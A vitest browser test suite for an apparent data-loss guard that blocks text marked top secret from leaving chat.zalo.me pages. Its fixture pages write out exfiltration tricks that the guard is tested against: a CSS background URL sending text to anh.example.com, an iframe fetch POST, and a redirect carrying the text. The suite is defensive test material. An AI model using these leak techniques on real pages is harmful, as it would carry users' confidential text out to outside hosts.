import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser, type TestBrowser } from '../support/browser.ts';
import { html, type ReceivingServer, startReceivingServer } from '../support/receiving-server.ts';

const MARKED = 'TUYỆT MẬT. Báo cáo kết quả kiểm tra đột xuất, gửi kèm phụ lục.';
const CLEAN = 'Báo cáo kết quả trồng cây, gửi kèm phụ lục.';

/** Each page does one thing with a text in its first script, when nothing has woken the guard yet. */
const pages: Record<string, (text: string) => string> = {
  '/o-nhap': (text) => `<textarea id="t"></textarea><script>
    let heard = false;
    t.addEventListener('input', () => { heard = true; });
    t.value = ${JSON.stringify(text)};
    t.dispatchEvent(new InputEvent('input', { bubbles: true, composed: true }));
    document.title = heard ? 'heard' : 'not heard';
  </script>`,
  '/kieu': (text) => `<script>
    const style = document.createElement('style');
    style.append('body { background: url("https://anh.example.com/nen?t=${encodeURIComponent(text)}") }');
    document.head.append(style);
    document.title = 'done';
  </script><p>Trang thử</p>`,
  '/khung': (text) => `<script>
    const frame = document.createElement('iframe');
    document.documentElement.append(frame);
    frame.contentWindow.fetch('https://chat.zalo.me/nhan', { method: 'POST', body: ${JSON.stringify(text)} }).catch(() => {});
    document.title = 'done';
  </script>`,
  '/dia-chi': (text) => `<script>
    location.href = '/den?t=' + encodeURIComponent(${JSON.stringify(text)});
  </script>`,
};

pages['/tap'] = () => `<textarea id="t"></textarea><script>
  const heard = [];
  for (const type of ['keydown', 'paste', 'beforeinput', 'input', 'selectionchange', 'change'])
    addEventListener(type, (event) => heard.push(type + (event.isTrusted ? '' : ' made up')), true);
  new MutationObserver(() => heard.push('mutation')).observe(document, { subtree: true, childList: true, attributes: true });
</script>`;

let server: ReceivingServer;
let test: TestBrowser;

beforeAll(async () => {
  server = await startReceivingServer((_, url) => {
    const { pathname, searchParams } = new URL(url, 'https://chat.zalo.me');
    const page = pages[pathname];
    return page ? html(page(searchParams.has('marked') ? MARKED : CLEAN)) : null;
  });
  test = await launchBrowser({ port: server.port });
});

afterAll(async () => {
  await test?.stop();
  await server?.stop();
});

async function visit(path: string): Promise<string> {
  const page = await test.open(`https://chat.zalo.me${path}`);
  await page.waitForFunction(() => document.readyState === 'complete');
  const title = await page.title();
  await page.close();
  return title;
}

describe('a guard that nothing has woken', () => {
  it('hears the first event of a marked field before the page does', async () => {
    expect(await visit('/o-nhap?marked')).toBe('not heard');
    expect(await visit('/o-nhap')).toBe('heard');
  });

  it.each([
    ['a style that the first script adds', '/kieu'],
    ['a function of a frame that the first script makes', '/khung'],
    ['an address that the first script goes to', '/dia-chi'],
  ])('lets nothing marked go by %s', async (_, path) => {
    const before = server.received.length;
    await visit(`${path}?marked`);
    await visit(path);
    const since = () => server.received.slice(before).map(({ url, body }) => decodeURIComponent(url) + body);
    expect(await server.waitFor(() => since().some((text) => text.includes(CLEAN)), 5_000)).toBe(true);
    expect(since().filter((text) => text.includes(MARKED))).toEqual([]);
  });
});

describe('a guard that practises for the first paste', () => {
  it('is heard and seen by nobody', async () => {
    const page = await test.open('https://chat.zalo.me/tap');
    await page.click('#t');
    await page.keyboard.press('Control');
    await new Promise((done) => setTimeout(done, 1_500));
    expect(await page.evaluate('heard.filter((one) => one !== "selectionchange")')).toEqual(['keydown']);
    await page.close();
  });
});
